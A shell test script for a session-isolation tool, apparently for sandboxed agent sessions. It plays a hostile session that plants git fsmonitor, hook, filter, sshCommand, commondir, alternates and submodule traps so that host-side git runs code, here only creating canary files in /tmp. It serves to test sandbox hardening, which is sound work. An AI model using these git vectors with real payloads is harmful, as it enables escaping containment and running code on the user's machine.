#!/bin/sh
# An attack on the host's git, run as a session's own process (or, in the test of the host-side
# hardening alone, as a plain process that can write everything a session could before the
# mounts were narrowed). It plants, in every place a session's git metadata reaches, a config
# whose fsmonitor, hooks and filters would create /tmp/clauderon-pwned-$NONCE-<vector> when a git
# on the host reads it. The host test then drives clauderon (create, status, stop, start,
# delete) and runs the user's own `git status`, and checks that no such file appeared on the
# host. Each write's outcome is recorded in $OUT (`<vector> ok|refused`), so a test can also
# check what the mounts let through.
#
# Usage: git_plant.sh NONCE OUT   (run in the session's worktree)
nonce=$1
out=$2
: > "$out"
wt=$(pwd)
meta=$(sed -n 's/^gitdir: //p' .git)
common=$(cd "$meta" && cd "$(cat commondir)" && pwd)
evil="$wt/.evil"
pwn() { echo "touch /tmp/clauderon-pwned-$nonce-$1"; }
# The attack's own git must not trip its own traps.
g() { git -c core.hooksPath=/dev/null -c core.fsmonitor=false -c user.name=a -c user.email=a@b "$@"; }
note() { if [ "$2" = 0 ]; then echo "$1 ok" >> "$out"; else echo "$1 refused" >> "$out"; fi; }

# A shared git dir of the attacker's, and a worktree git dir that points at it.
mkdir -p "$evil/common/objects" "$evil/common/refs/heads" "$evil/common/hooks" "$evil/wt"
cp -r "$common/objects/." "$evil/common/objects/" 2>/dev/null
cp -r "$common/refs/." "$evil/common/refs/" 2>/dev/null
[ -f "$common/packed-refs" ] && cp "$common/packed-refs" "$evil/common/"
echo "ref: refs/heads/main" > "$evil/common/HEAD"
for hook in post-checkout pre-commit post-commit reference-transaction post-index-change pre-auto-gc; do
  printf '#!/bin/sh\n%s\n' "$(pwn "hook-$hook")" > "$evil/common/hooks/$hook"
  chmod +x "$evil/common/hooks/$hook"
done
printf '#!/bin/sh\n%s\n' "$(pwn fsmonitor)" > "$evil/fsmonitor"
chmod +x "$evil/fsmonitor"
cat > "$evil/common/config" <<CFG
[core]
	repositoryformatversion = 0
	bare = false
	fsmonitor = $evil/fsmonitor
	hooksPath = $evil/common/hooks
	sshCommand = $(pwn sshcommand)
[filter "pwn"]
	clean = $(pwn filter-clean)
	smudge = $(pwn filter-smudge)
[extensions]
	worktreeConfig = true
CFG
mkdir -p "$evil/common/info"
echo "* filter=pwn" > "$evil/common/info/attributes"
cp "$meta/HEAD" "$meta/index" "$evil/wt/" 2>/dev/null
echo "$evil/common" > "$evil/wt/commondir"
echo "$wt/.git" > "$evil/wt/gitdir"

# 1. The worktree's .git file, pointed at the attacker's git dir.
( printf 'gitdir: %s\n' "$evil/wt" > .git ) 2>/dev/null; note dotgit $?
# 2. The worktree's metadata: commondir and a per-worktree config.
( echo "$evil/common" > "$meta/commondir" ) 2>/dev/null; note meta-commondir $?
( printf '[core]\n\tfsmonitor = %s\n' "$evil/fsmonitor" > "$meta/config.worktree" ) 2>/dev/null; note meta-config-worktree $?
# 3. The repository's own git dir: a commondir (the user's checkout would follow it), its
#    config, hooks, attributes, and where objects are borrowed from.
( echo "$evil/common" > "$common/commondir" ) 2>/dev/null; note common-commondir $?
( printf '[core]\n\tfsmonitor = %s\n' "$evil/fsmonitor" >> "$common/config" ) 2>/dev/null; note common-config $?
( printf '#!/bin/sh\n%s\n' "$(pwn user-hook)" > "$common/hooks/post-checkout" && chmod +x "$common/hooks/post-checkout" ) 2>/dev/null; note common-hooks $?
( mkdir -p "$common/info" && echo "* filter=pwn" > "$common/info/attributes" ) 2>/dev/null; note common-info $?
( echo "$evil/common/objects" > "$common/objects/info/alternates" ) 2>/dev/null; note common-alternates $?
# 4. The user's own branch, and other sessions' worktree metadata.
( GIT_DIR="$meta" GIT_COMMON_DIR="$common" g rev-parse HEAD > "$common/refs/heads/main.tmp" && mv "$common/refs/heads/main.tmp" "$common/refs/heads/main" ) 2>/dev/null; note common-user-branch $?
for other in "$common"/worktrees/*; do
  [ "$other" = "$meta" ] && continue
  [ -d "$other" ] || continue
  ( echo "$evil/common" > "$other/commondir" ) 2>/dev/null; note other-worktree $?
done
# 5. A submodule whose own git dir has the attacker's config, registered in the index, so a
#    git on the host that enters submodules (`git worktree remove`'s own status) reads it.
mkdir -p sub
( cd sub && g init -q && g commit -q --allow-empty -m s ) 2>/dev/null
printf '[core]\n\tfsmonitor = %s\n' "$evil/fsmonitor" >> sub/.git/config 2>/dev/null
echo "* filter=pwn" > sub/.gitattributes
printf '[filter "pwn"]\n\tclean = %s\n' "$(pwn sub-filter)" >> sub/.git/config 2>/dev/null
( GIT_DIR="$meta" GIT_COMMON_DIR="$common" GIT_WORK_TREE="$wt" g update-index --add --cacheinfo "160000,$(g -C sub rev-parse HEAD),sub" ) 2>/dev/null; note submodule $?
echo done >> "$out"
